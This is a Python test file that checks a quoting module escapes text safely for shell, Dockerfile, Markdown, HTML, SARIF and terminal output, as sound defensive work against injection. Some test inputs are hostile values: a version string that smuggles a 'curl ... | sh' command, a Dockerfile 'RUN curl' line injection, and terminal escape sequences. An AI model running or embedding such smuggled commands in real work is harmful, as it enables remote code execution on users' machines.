"""What is quoted for a language is read there as the same text."""

from __future__ import annotations

import html.parser
import re
import shlex
import string
import subprocess

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tools.text import quote

ONE_LINE = st.text(st.characters(exclude_categories=("Cc", "Cs", "Zl", "Zp")))
ANY = st.text(st.characters(exclude_categories=()))
# What each language has a meaning for, close together.
SPIKY = st.text("`'\"\\$(){}[]<>|&;#*_!~^- \tabn", max_size=20).filter(lambda t: "\t" not in t)
TEXTS = ONE_LINE | SPIKY
GENERATED = settings(deadline=None, derandomize=True, max_examples=500)


@GENERATED
@given(TEXTS)
def test_shell(text: str) -> None:
    assert shlex.split(quote.shell(text)) == [text]
    assert "\n" not in quote.shell(text)


@settings(deadline=None, derandomize=True, max_examples=50)
@given(TEXTS)
def test_a_real_shell(text: str) -> None:
    done = subprocess.run(
        ["/bin/sh", "-c", f"printf %s {quote.shell(text)}"], capture_output=True, check=True
    )
    assert done.stdout.decode() == text


def word_of_dockerfile(word: str) -> str:
    """Read a word as Docker's builder does (frontend/dockerfile/shell)."""
    if not word.startswith('"'):
        assert not re.search(r"[\s\"'\\$]", word)
        return word
    assert word.endswith('"') and len(word) > 1
    inner, out, at = word[1:-1], "", 0
    while at < len(inner):
        assert inner[at] not in '"$', "ends the word, or begins a variable"
        # Within double quotes a backslash escapes these alone.
        if inner[at] == "\\" and inner[at + 1 : at + 2] in ('"', "$", "\\"):
            at += 1
        out += inner[at]
        at += 1
    return out


@GENERATED
@given(TEXTS.filter(bool))
def test_dockerfile(text: str) -> None:
    assert word_of_dockerfile(quote.dockerfile(text)) == text


def test_an_empty_word_of_a_dockerfile() -> None:
    assert quote.dockerfile("") == '""'


@GENERATED
@given(TEXTS)
def test_markdown(text: str) -> None:
    """CommonMark: a backslash makes any ASCII punctuation literal; a blank stays one."""
    quoted = quote.markdown(text)
    assert re.sub(rf"\\([{re.escape(string.punctuation)}])", r"\1", quoted) == text
    bare = re.sub(r"\\.", "", quoted)
    assert not set(bare) & set("\\`*_[]<>#|~&")


@GENERATED
@given(TEXTS.filter(str.strip))
def test_code_of_markdown(text: str) -> None:
    quoted = quote.code(text)
    fence = re.match("`+", quoted)
    assert fence and quoted.endswith(fence[0])
    inner = quoted[len(fence[0]) : -len(fence[0])]
    assert fence[0] not in re.findall("`+", inner), "the fence would end earlier"
    if inner[:1] == inner[-1:] == " ":
        inner = inner[1:-1]
    assert inner == text


class Reader(html.parser.HTMLParser):
    """Collects text and attributes; anything else is markup that came through."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.text = ""
        self.seen: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, attrs))


@GENERATED
@given(TEXTS)
def test_html(text: str) -> None:
    reader = Reader()
    reader.feed(f'<p title="{quote.html(text)}">{quote.html(text)}</p>')
    reader.close()
    assert reader.text == text
    assert reader.seen == [("p", [("title", text)])]


@GENERATED
@given(ANY | SPIKY)
def test_sarif(text: str) -> None:
    quoted = quote.sarif(text)
    assert not re.search(r"(?<!\\)(?:\\\\)*[\[\]]", quoted), "would be a link"
    assert not re.search(r"[\x00-\x1f\x7f-\x9f]", quoted)
    if quoted.isprintable() and text.isprintable():
        braces = quoted.replace("{{", "{").replace("}}", "}")
        assert re.sub(r"\\([\\\[\]])", r"\1", braces) == text or "{{" in text or "}}" in text


@GENERATED
@given(ANY | st.text("\x1b[2J\x07\u202e\u2066\x9b31m\r\n"))
def test_terminal(text: str) -> None:
    quoted = quote.terminal(text)
    assert not re.search("[\x00-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]", quoted)
    quoted.encode()
    assert quoted.isprintable()
    assert quote.terminal(quoted) == quoted


def test_a_terminal_shows_letters_as_they_are() -> None:
    assert quote.terminal("Größe 3 “MB” …") == "Größe 3 “MB” …"
    assert quote.terminal("a\x1b[2Jb\r\n\x07\x9b31m") == r"a\x1b[2Jb\x0d\x0a\x07\x9b31m"
    assert quote.terminal("a\u202eb\u2028") == r"a\u202eb\u2028"


@pytest.mark.parametrize(
    "function", [quote.line, quote.shell, quote.dockerfile, quote.markdown, quote.code, quote.html]
)
@pytest.mark.parametrize(
    "text", ["a\nRUN curl", "a\x1b[2J", "a\0b", "a\u2028b", "a\x85b", "\ud800"]
)
def test_what_is_more_than_a_line_is_refused(function: object, text: str) -> None:
    with pytest.raises(ValueError, match="has a control character"):
        function(text)  # type: ignore[operator]


def test_the_words_of_the_issue() -> None:
    version = "70'; curl https://example.test | sh; : '"
    assert shlex.split(f"pip install {quote.shell('setuptools==' + version)}") == [
        "pip",
        "install",
        f"setuptools=={version}",
    ]
